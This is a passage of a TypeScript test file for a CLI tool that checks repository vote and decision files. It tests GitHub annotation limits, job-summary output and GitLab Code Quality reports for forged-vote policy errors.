      'decisions/chat22/2026-11-20-reviewing.md': decisionText(
        'chat22',
        'reviewing',
        '2026-11-20',
        ['carol'],
      ),
    });
    const summary = join(tempDir('ideas-summary-'), 'summary.md');
    const result = await check(forge, ['--actor', 'carol'], { GITHUB_STEP_SUMMARY: summary });
    expect(result.code).toBe(0);
    expect(readFileSync(summary, 'utf8')).toContain(
      '- Decision: `chat22` → reviewing, signed by carol: quorum 1 of 1 met ✅',
    );
  });

  it('github format shows 10 error annotations, says how many more, and the summary lists all', async () => {
    const files = Object.fromEntries(
      Array.from({ length: 13 }, (_, i) => [
        `votes/chat22/v${i}x.md`,
        voteText('chat22', `v${i}x`),
      ]),
    );
    const forge = makeForge();
    branchAs(forge, 'erin', 'pr', files);
    const summary = join(tempDir('ideas-summary-'), 'summary.md');
    const result = await runCli(
      [
        'check',
        '--base',
        'origin/main',
        '--actor',
        'erin',
        '--format',
        'github',
        '--summary',
        summary,
      ],
      { cwd: forge.root },
    );
    expect(result.code).toBe(1);
    const lines = result.stdout.split('\n');
    const errors = lines.filter((l) => l.startsWith('::error '));
    expect(errors).toHaveLength(10);
    const total = lines.at(-2) ?? '';
    const [, count = 0, warnings = 0] = (/^(\d+) errors, (\d+) warnings/.exec(total) ?? []).map(
      Number,
    );
    expect(count).toBe(13); // Each forged vote, once.
    expect(lines.filter((l) => l.startsWith('::warning '))).toHaveLength(10);
    expect(lines.filter((l) => l.includes('not shown')).join('\n')).toBe(
      `::notice title=ideas::${count - 10} more errors and ${warnings - 10} more warnings are not shown as annotations (GitHub shows 10 of each per step): the job summary lists them all`,
    );
    const text = readFileSync(summary, 'utf8');
    expect(text).toContain(`### Problems (${count + warnings})`);
    expect(text.split('\n').filter((l) => l.startsWith('| votes/chat22/'))).toHaveLength(
      count + warnings,
    );
  });

  it('gitlab format writes a Code Quality report', async () => {
    const result = await runCliIn(
      'erin',
      { 'votes/chat22/alice.md': voteText('chat22', 'alice') },
      ['--format', 'gitlab'],
    );
    expect(result.code).toBe(1);
    const issues = JSON.parse(result.stdout) as {
      description: string;
      check_name: string;
      fingerprint: string;
      severity: string;
      location: { path: string; lines: { begin: number } };
    }[];
    const forged = issues.find((i) => i.check_name === 'policy/vote-voter');
    expect(forged).toMatchObject({
      severity: 'major',
      location: { path: 'votes/chat22/alice.md', lines: { begin: 3 } },
    });
    expect(forged?.description).toContain('erin added the vote of alice');
    expect(forged?.fingerprint).toMatch(/^[0-9a-f]{64}$/);
    expect(new Set(issues.map((i) => i.fingerprint)).size).toBe(issues.length);
  });
});

async function runCliIn(person: string, files: Record<string, string>, args: string[]) {
  const forge = makeForge();
  branchAs(forge, person, 'pr', files);
  return runCli(['check', '--base', 'origin/main', '--actor', person, ...args], {
    cwd: forge.root,
  });
}
